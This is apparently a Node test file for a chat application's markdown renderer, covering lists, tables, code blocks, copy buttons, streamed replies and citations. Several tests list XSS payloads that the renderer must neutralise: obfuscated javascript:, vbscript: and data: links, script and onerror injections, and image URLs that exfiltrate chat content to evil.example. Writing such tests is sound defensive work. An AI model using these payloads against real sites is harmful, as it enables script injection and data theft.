// chatapi/static/markdown.js in jsdom, with the vendored libraries the page loads:
// node --test tests/js/markdown.test.js
import { test } from "node:test";
import assert from "node:assert/strict";
import { JSDOM } from "jsdom";

const { window } = new JSDOM("<!doctype html><html><body></body></html>", { url: "http://127.0.0.1:5000/" });
globalThis.window = window; // DOMPurify takes its window when it is imported
globalThis.document = window.document;
const { renderMarkdown } = await import("../../chatapi/static/markdown.js");

// What the module may put in a page: markdown-it's tags that the sanitiser keeps, and its own code-block head,
// copy button and citation marks.
const TAGS = new Set(["P", "BR", "HR", "H1", "H2", "H3", "H4", "H5", "H6", "EM", "STRONG", "S", "CODE", "PRE",
  "BLOCKQUOTE", "UL", "OL", "LI", "A", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "SPAN", "DIV", "BUTTON", "SUP"]);
const LINK_SCHEMES = new Set(["http:", "https:", "mailto:"]);

// Sources as a hostile page or a tampered database could give them (as in tests/page/test_browser.py).
const HOSTILE_SOURCES = [
  { n: 1, title: '<img src=x onerror="window.__pwned = 1">Evil page', url: "javascript:window.__pwned = 2" },
  { n: 2, title: "<script>window.__pwned = 3</script>Shouting", url: " JavaScript:window.__pwned = 4" },
  { n: 3, title: "Split scheme", url: "java\tscript:window.__pwned = 5" },
  { n: 4, title: "Data page", url: "data:text/html,<script>window.__pwned = 6</script>" },
  { n: 5, title: "", url: "vbscript:msgbox(1)" },
  { n: 6, title: "A real page <b>bold</b>", url: "https://example.org/volcano?q=<b>" },
];
const SOURCES = [
  { n: 1, title: "Zorblax volcano facts", url: "https://example.org/volcano", snippet: "It erupts hourly." },
  { n: 2, title: "Gardening", url: "https://example.org/garden", snippet: "" },
];

/** The message rendered into a bubble that is part of the document. */
function render(text, options) {
  const bubble = document.createElement("div");
  bubble.className = "bubble markdown";
  bubble.append(renderMarkdown(text, options));
  document.body.replaceChildren(bubble);
  return bubble;
}

/** A citation of the first `sentence` in `text`, as the server sends it. */
function cite(text, sentence, n) {
  const start = text.indexOf(sentence);
  assert.ok(start >= 0, `"${sentence}" is not in the text`);
  return { start, end: start + sentence.length, n };
}

/** Nothing that runs, loads or styles: only known tags, no handlers or style, links only to web and mail
 * addresses and each one opening in a new tab without the opener. */
function assertInert(bubble) {
  for (const element of bubble.querySelectorAll("*")) {
    assert.ok(TAGS.has(element.tagName), `<${element.tagName.toLowerCase()}> in ${bubble.innerHTML}`);
    for (const { name } of element.attributes) {
      assert.ok(!name.startsWith("on") && name !== "style" && name !== "src", `${name} in ${bubble.innerHTML}`);
    }
  }
  for (const link of bubble.querySelectorAll("a")) {
    assert.ok(LINK_SCHEMES.has(new URL(link.href).protocol), `a link to ${link.getAttribute("href")}`);
    assert.equal(link.target, "_blank");
    assert.equal(link.rel, "noopener noreferrer");
  }
}

function texts(nodes) {
  return [...nodes].map((node) => node.textContent);
}

test("emphasis, strong, strikethrough, headings, block quotes, rules and line breaks", () => {
  const bubble = render("# Title\n\n### Part\n\n*one* **two** ~~three~~\nnext line\n\n> quoted **text**\n\n---");
  assert.deepEqual(texts(bubble.querySelectorAll("h1")), ["Title"]);
  assert.deepEqual(texts(bubble.querySelectorAll("h3")), ["Part"]);
  assert.deepEqual(texts(bubble.querySelectorAll("em")), ["one"]);
  assert.deepEqual(texts(bubble.querySelectorAll(":scope > p > strong")), ["two"]);
  assert.deepEqual(texts(bubble.querySelectorAll("s")), ["three"]);
  // A newline in the reply is a line break, as in the plain-text page (a poem keeps its lines).
  assert.equal(bubble.querySelector("p:nth-of-type(1) br").nextSibling.textContent, "\nnext line");
  assert.equal(bubble.querySelector("blockquote strong").textContent, "text");
  assert.equal(bubble.querySelectorAll("hr").length, 1);
  assertInert(bubble);
});

test("the text is the message's: no newlines of markdown-it's own between blocks, list items and table rows", () => {
  assert.equal(render("The capital of France is Paris.").textContent, "The capital of France is Paris.");
  const bubble = render("One.\n\n- a\n- b\n\n> quoted\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n```js\nlet a;\n```");
  assert.equal(bubble.textContent, "One.abquotedxy12jsCopy codelet a;\n"); // the code block's head, then its code
  // Spaces between inline elements and a code block's lines stay.
  assert.equal(render("**a** *b*").textContent, "a b");
  assert.equal(render("```\nx\n\ny\n```").querySelector("code").textContent, "x\n\ny\n");
});

test("ordered, unordered and nested lists", () => {
  const bubble = render("3. three\n4. four\n   - inner\n   - *also*\n\n- a\n- b");
  const ordered = bubble.querySelector("ol");
  assert.equal(ordered.getAttribute("start"), "3");
  assert.deepEqual(texts(ordered.querySelectorAll(":scope > li > ul > li")), ["inner", "also"]);
  assert.equal(ordered.querySelector("ul em").textContent, "also");
  assert.deepEqual(texts(bubble.querySelectorAll(":scope > ul > li")), ["a", "b"]);
});

test("tables keep their alignment as classes, since the page's policy refuses style attributes", () => {
  const bubble = render("| Name | Height | Year |\n|:--|:-:|--:|\n| Etna | 3357 | 2024 |\n| Fuji | **3776** | 1707 |");
  assert.deepEqual(texts(bubble.querySelectorAll("thead th")), ["Name", "Height", "Year"]);
  assert.deepEqual(texts(bubble.querySelectorAll("tbody tr:nth-child(2) td")), ["Fuji", "3776", "1707"]);
  assert.equal(bubble.querySelector("tbody strong").textContent, "3776");
  const classes = [...bubble.querySelectorAll("tbody tr:first-child td")].map((cell) => cell.className);
  assert.deepEqual(classes, ["align-left", "align-center", "align-right"]);
  assert.equal(bubble.querySelector("[style]"), null);
});

test("links to web and mail addresses open in a new tab without the opener", () => {
  const bubble = render(
    "[the page](https://example.org/a?b=1 \"Title\"), <https://example.org/auto>, https://example.org/bare, " +
      "[mail](mailto:someone@example.org) and app.py, which is a file name.",
  );
  const links = [...bubble.querySelectorAll("a")];
  assert.deepEqual(links.map((link) => link.getAttribute("href")), [
    "https://example.org/a?b=1",
    "https://example.org/auto",
    "https://example.org/bare",
    "mailto:someone@example.org",
  ]);
  assert.deepEqual(texts(links), ["the page", "https://example.org/auto", "https://example.org/bare", "mail"]);
  assert.equal(links[0].title, "Title");
  assertInert(bubble);
});

test("links that are not to web or mail addresses are text, however they are written", () => {
  const attempts = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](%6aavascript:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "[click](/chats/delete)",
    "[click](//evil.example/x)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[click]\n\n[click]: vbscript:msgbox(1)",
    "javascript:alert(1) and vbscript:msgbox(1) as bare text",
  ];
  for (const attempt of attempts) {
    const bubble = render(attempt);
    assert.equal(bubble.querySelectorAll("a").length, 0, `${attempt} made ${bubble.innerHTML}`);
    assert.match(bubble.textContent, /click|alert|msgbox/, attempt);
    assertInert(bubble);
  }
});

test("raw HTML is shown as text, in a paragraph, a link's text, an HTML block and an image", () => {
  const hostile = '<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2"><b>bold</b> & more';
  assert.equal(render(hostile).textContent.trim(), hostile);
  const attempts = [
    ["<div>\n<script>alert(1)</script>\n</div>", "<script>alert(1)</script>"],
    ['<iframe src="javascript:alert(1)"></iframe>', "<iframe"],
    ['[<img src=x onerror=alert(1)>](https://example.org)', "<img src=x onerror=alert(1)>"],
    ['<a href="javascript:alert(1)">x</a>', '<a href="javascript:alert(1)">'],
    ['<svg><script>alert(1)</script></svg>', "<svg>"],
    ["<style>body { display: none }</style>", "<style>"],
    ['<details open ontoggle="alert(1)">', "ontoggle"],
    ["``` js\n</code></pre><script>alert(1)</script>\n```", "</code></pre><script>"],
    ['```"><script>alert(1)</script>\ncode\n```', "code"],
    ["`</code><script>alert(1)</script>`", "</code><script>"],
  ];
  for (const [attempt, shown] of attempts) {
    const bubble = render(attempt);
    assert.ok(bubble.textContent.includes(shown), `${attempt} showed ${bubble.textContent}`);
    assertInert(bubble);
  }
});

test("images are links the person may open, never loaded: an image's address could carry the chat away", () => {
  const attempts = [
    ["![tracker](https://evil.example/pixel.png?chat=secret)", "https://evil.example/pixel.png?chat=secret"],
    ["![inline](data:image/png;base64,iVBORw0KGgo=)", null],
    ["![x](javascript:alert(1))", null],
    ["![ref][img]\n\n[img]: https://evil.example/r.png", "https://evil.example/r.png"],
  ];
  for (const [attempt, href] of attempts) {
    const bubble = render(attempt);
    assert.equal(bubble.querySelectorAll("img").length, 0, attempt);
    assert.deepEqual([...bubble.querySelectorAll("a")].map((link) => link.getAttribute("href")), href ? [href] : []);
    assertInert(bubble);
  }
});

test("fenced code is highlighted when its language is known, under a head with a copy button", () => {
  const bubble = render("Run:\n\n```python\ndef erupt(minutes):\n    return minutes % 47 == 0  # hourly\n```\nDone.");
  const block = bubble.querySelector(".code-block");
  assert.equal(block.querySelector(".code-language").textContent, "python");
  const code = block.querySelector("pre > code");
  assert.ok(code.classList.contains("hljs") && code.classList.contains("language-python"));
  assert.deepEqual(texts(code.querySelectorAll(".hljs-keyword")), ["def", "return"]);
  assert.deepEqual(texts(code.querySelectorAll(".hljs-comment")), ["# hourly"]);
  assert.equal(code.textContent, "def erupt(minutes):\n    return minutes % 47 == 0  # hourly\n");
  const button = block.querySelector(".code-head > button");
  assert.equal(button.type, "button");
  assert.equal(button.textContent, "Copy code");
  assert.equal(bubble.lastElementChild.textContent, "Done.");
  assertInert(bubble);
});

test("aliases are highlighted; unknown languages and plain blocks are escaped text with a copy button", () => {
  const aliased = render("```js\nconst a = 1;\n```").querySelector("code");
  assert.deepEqual(texts(aliased.querySelectorAll(".hljs-keyword")), ["const"]);
  for (const [text, label] of [["```zorblax\nif <b> then\n```", "zorblax"], ["```\nif <b> then\n```", "code"],
    ["Indented:\n\n    if <b> then\n", "code"]]) {
    const bubble = render(text);
    const code = bubble.querySelector(".code-block pre > code.hljs");
    assert.equal(code.textContent, "if <b> then\n", text);
    assert.equal(code.children.length, 0, text);
    assert.equal(bubble.querySelector(".code-language").textContent, label);
    assert.equal(bubble.querySelectorAll(".code-block button").length, 1);
  }
});

test("the copy button copies the code as written, and selects it where there is no clipboard", async (t) => {
  const code = 'if (a < b && c) {\n  print("<done>");\n}\n';
  const copied = [];
  const clipboard = { writeText: async (text) => void copied.push(text) };
  t.after(() => delete globalThis.navigator);
  Object.defineProperty(globalThis, "navigator", { value: { clipboard }, configurable: true, writable: true });
  let bubble = render(`Two blocks:\n\n\`\`\`c\n${code}\`\`\`\n\n\`\`\`\nsecond\n\`\`\``);
  const [first, second] = bubble.querySelectorAll(".code-block button");
  second.click();
  first.click();
  await new Promise((resolve) => setTimeout(resolve, 0));
  assert.deepEqual(copied, ["second\n", code]);
  assert.equal(first.textContent, "Copied");

  globalThis.navigator = {}; // a page served over plain http to another host has no navigator.clipboard
  bubble = render(`\`\`\`c\n${code}\`\`\``);
  const button = bubble.querySelector(".code-block button");
  button.click();
  await new Promise((resolve) => setTimeout(resolve, 0));
  assert.equal(window.getSelection().toString(), code);
  assert.equal(button.textContent, "Press Ctrl+C");
});

test("citations: a superscript link after each cited span, in place of an [n] the model wrote", () => {
  const text = "The Zorblax volcano erupts every 47 minutes. Tomatoes like [2] morning water.";
  const citations = [cite(text, "The Zorblax volcano erupts every 47 minutes.", 1), cite(text, "Tomatoes like [2] morning water.", 2)];
  const bubble = render(text, { citations, sources: SOURCES });
  assert.equal(bubble.textContent.trim(), "The Zorblax volcano erupts every 47 minutes.[1] Tomatoes like [2] morning water.");
  const marks = bubble.querySelectorAll("p > sup.citation");
  assert.equal(marks.length, 2);
  for (const [mark, source] of [[marks[0], SOURCES[0]], [marks[1], SOURCES[1]]]) {
    const link = mark.querySelector("a.citation-link");
    assert.equal(link.textContent, `[${source.n}]`);
    assert.equal(link.getAttribute("href"), source.url);
    assert.equal(link.title, `Source ${source.n}: ${source.title}`);
    assert.equal(link.getAttribute("aria-label"), `Source ${source.n}: ${source.title}`);
  }
  assert.equal(marks[1].previousSibling.textContent, " Tomatoes like "); // the written [2] itself became the link
  assertInert(bubble);
});

test("citations of script addresses are text; only a web address's is a link (as the plain-text page did)", () => {
  const answer = "It erupts every 47 minutes [1].";
  const citations = [{ start: 0, end: 31, n: 1 }, { start: 0, end: 31, n: 6 }];
  const bubble = render(answer, { citations, sources: HOSTILE_SOURCES });
  assert.equal(bubble.textContent.trim(), "It erupts every 47 minutes [1].[6]");
  assert.deepEqual(texts(bubble.querySelectorAll(".citation span.citation-link")), ["[1]"]);
  assert.equal(bubble.querySelector(".citation span.citation-link").title, `Source 1: ${HOSTILE_SOURCES[0].title}`);
  const links = bubble.querySelectorAll("a");
  assert.equal(links.length, 1);
  assert.equal(links[0].getAttribute("href"), "https://example.org/volcano?q=%3Cb%3E");
  assertInert(bubble);
  for (const source of HOSTILE_SOURCES.slice(0, 5)) {
    const one = render("A claim.", { citations: [{ start: 0, end: 8, n: source.n }], sources: HOSTILE_SOURCES });
    assert.equal(one.querySelectorAll("a").length, 0, source.url);
    assert.equal(one.textContent.trim(), `A claim.[${source.n}]`);
  }
});

test("citations that do not fit the message are left out", () => {
  const text = "A claim.";
  const citations = [{ start: 0, end: 8, n: 9 }, { start: 0, end: 9, n: 1 }, { start: 0, end: 0, n: 1 },
    { start: 0, end: "8", n: 1 }, { end: 8, n: 1 }, { start: 0, end: 8.5, n: 1 }, null, "x"];
  assert.equal(render(text, { citations, sources: SOURCES }).textContent.trim(), "A claim.");
  assert.equal(render(text, { citations: "not a list", sources: SOURCES }).textContent.trim(), "A claim.");
  assert.equal(render(text, { citations: [{ start: 0, end: 8, n: 1 }], sources: null }).textContent.trim(), "A claim.");
});

test("citation offsets count characters as the server does (Python's code points), so emoji do not shift them", () => {
  const text = "🌋🌋 Zorblax erupts hourly. 🍅 Tomatoes like water.";
  const codePoints = [...text];
  const sentence = (words) => {
    const start = codePoints.join("").indexOf(words); // a UTF-16 index: turned into code points below
    const begin = [...text.slice(0, start)].length;
    return { start: begin, end: begin + [...words].length };
  };
  const citations = [{ ...sentence("Zorblax erupts hourly."), n: 1 }, { ...sentence("Tomatoes like water."), n: 2 }];
  assert.equal(citations[1].end, codePoints.length);
  const bubble = render(text, { citations, sources: SOURCES });
  assert.equal(bubble.textContent.trim(), "🌋🌋 Zorblax erupts hourly.[1] 🍅 Tomatoes like water.[2]");
  // One past the end in code points is past the message, though not past its UTF-16 length.
  const past = render(text, { citations: [{ start: 0, end: codePoints.length + 1, n: 1 }], sources: SOURCES });
  assert.equal(past.querySelectorAll("sup").length, 0);
});

test("citations keep the Markdown around them working: emphasis, addresses, list items, headings and tables", () => {
  const text = [
    "## Facts about Zorblax",
    "**It erupts every 47 minutes.**",
    "- __Ash__ falls on the town",
    "See https://example.org/volcano/facts",
    "| Volcano | Period |\n|---|---|\n| Zorblax | 47 min |",
  ].join("\n\n");
  const sentences = ["Facts about Zorblax", "**It erupts every 47 minutes.**", "__Ash__ falls on the town",
    "See https://example.org/volcano/facts", "| Volcano | Period |", "| Zorblax | 47 min |"];
  const citations = sentences.map((sentence) => cite(text, sentence, 1));
  const bubble = render(text, { citations, sources: SOURCES });
  assert.equal(bubble.querySelectorAll("sup.citation").length, 6);
  assert.equal(bubble.querySelector("h2").textContent, "Facts about Zorblax[1]");
  assert.equal(bubble.querySelector("strong").textContent, "It erupts every 47 minutes.");
  assert.equal(bubble.querySelector("li strong").textContent, "Ash");
  const bare = bubble.querySelector("a:not(.citation-link)");
  assert.equal(bare.getAttribute("href"), "https://example.org/volcano/facts");
  assert.equal(bare.nextElementSibling.className, "citation");
  assert.deepEqual(texts(bubble.querySelectorAll("thead th")), ["Volcano", "Period[1]"]);
  assert.deepEqual(texts(bubble.querySelectorAll("tbody td")), ["Zorblax", "47 min[1]"]);
  assert.equal(bubble.textContent.includes("**"), false);
  assertInert(bubble);
});

test("in code and in a link's text a citation stays as the model wrote it", () => {
  const text = "Use `erupt([1])` here.\n\n```python\nprint(x[1])\n```\n\nRead [the page [2]](https://example.org/p).";
  const citations = [cite(text, "Use `erupt([1])` here.", 1), cite(text, "print(x[1])", 1),
    cite(text, "Read [the page [2]](https://example.org/p).", 2)];
  const bubble = render(text, { citations, sources: SOURCES });
  assert.equal(bubble.querySelector("p > code").textContent, "erupt([1])");
  assert.equal(bubble.querySelector("pre code").textContent, "print(x[1])\n");
  const link = bubble.querySelector("a:not(.citation-link)");
  assert.equal(link.textContent, "the page [2]");
  assert.equal(link.querySelector("sup"), null);
  // A citation after code, where the model wrote no [n], is not added inside the code either.
  const after = render("```\nx\n```", { citations: [{ start: 4, end: 5, n: 1 }], sources: SOURCES });
  assert.equal(after.querySelector("code").textContent, "x\n");
  assert.equal(after.querySelectorAll("sup").length, 0);
});

test("text that looks like the module's own citation markers makes no citation", () => {
  const sources = SOURCES;
  const citations = [{ start: 0, end: 5, n: 1 }];
  for (const text of ["Fake \uFF5C\uE000\uFF5C marker.", "Fake &#xFF5C;&#xE000;&#xFF5C; entity.", "Fake ｜&#57344;｜ one."]) {
    const bubble = render(text, { citations, sources });
    assert.equal(bubble.querySelectorAll("sup.citation").length, 1, text);
    assert.equal(bubble.querySelector("sup.citation").previousSibling.textContent, "Fake ", text);
  }
});

test("half-written Markdown while a reply streams: an open fence, half a table, unclosed emphasis and links", () => {
  const fence = render("Here:\n\n```python\ndef erupt(");
  assert.equal(fence.querySelector(".code-block code.language-python").textContent, "def erupt(");
  const table = render("| Name | Height |\n|--");
  assert.equal(table.querySelector("table"), null);
  assert.ok(table.textContent.includes("| Name | Height |"));
  const header = render("| Name | Height |\n|---|---|\n| Etna | 33");
  assert.deepEqual(texts(header.querySelectorAll("tbody td")), ["Etna", "33"]);
  assert.equal(render("Some **bold").textContent.trim(), "Some **bold");
  const link = render("[the page](https://exa");
  assert.deepEqual(texts(link.querySelectorAll("a")), ["https://exa"]); // a bare address so far
  assert.equal(link.textContent.trim(), "[the page](https://exa");
});

test("every prefix of a reply renders, as each streamed token redraws the whole text", () => {
  const reply = "## Zorblax\n\nIt **erupts** every *47* minutes [1].\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n" +
    "```js\nconst x = `<b>` + 1;\n```\n\n- see https://example.org/v\n- [x](javascript:alert(1)) <img src=x onerror=alert(1)>";
  for (let end = 0; end <= reply.length; end += 1) {
    const bubble = render(reply.slice(0, end), { sources: SOURCES });
    assertInert(bubble);
  }
  const done = render(reply, { citations: [cite(reply, "It **erupts** every *47* minutes [1].", 1)], sources: SOURCES });
  assert.equal(done.querySelectorAll("sup.citation a").length, 1);
  assert.equal(done.querySelectorAll("table, .code-block, ul").length, 3);
});

test("a 4,000-character reply renders fast enough to redraw on every token", (t) => {
  const paragraph = "Volcanoes form where **magma** reaches the surface, often at *plate boundaries*; " +
    "see https://example.org/volcano for more [1]. ";
  const code = "```python\ndef erupt(pressure: float) -> bool:\n    return pressure > 3.5  # MPa\n```\n";
  const table = "| Volcano | Height (m) |\n|---|--:|\n| Etna | 3357 |\n| Fuji | 3776 |\n";
  let text = "## Volcanoes\n\n";
  while (text.length < 4000) text += `${paragraph}${paragraph}\n\n- one \`item\`\n- two\n\n${code}\n${table}\n> A quote.\n\n`;
  text = text.slice(0, 4000);
  const citations = [];
  for (let at = text.indexOf("[1]"); at >= 0; at = text.indexOf("[1]", at + 1)) citations.push({ start: 0, end: at + 3, n: 1 });
  const times = [];
  for (let run = 0; run < 60; run += 1) {
    const start = performance.now();
    renderMarkdown(text, { citations, sources: SOURCES });
    times.push(performance.now() - start);
  }
  times.sort((a, b) => a - b);
  const median = times[times.length >> 1];
  t.diagnostic(`4,000 characters, ${citations.length} citations: median ${median.toFixed(1)} ms in jsdom`);
  // jsdom's DOM is many times slower than a browser's; a regression to re-highlighting by guessing the
  // language, or to quadratic work, lands far above this.
  assert.ok(median < 200, `median ${median} ms`);
});
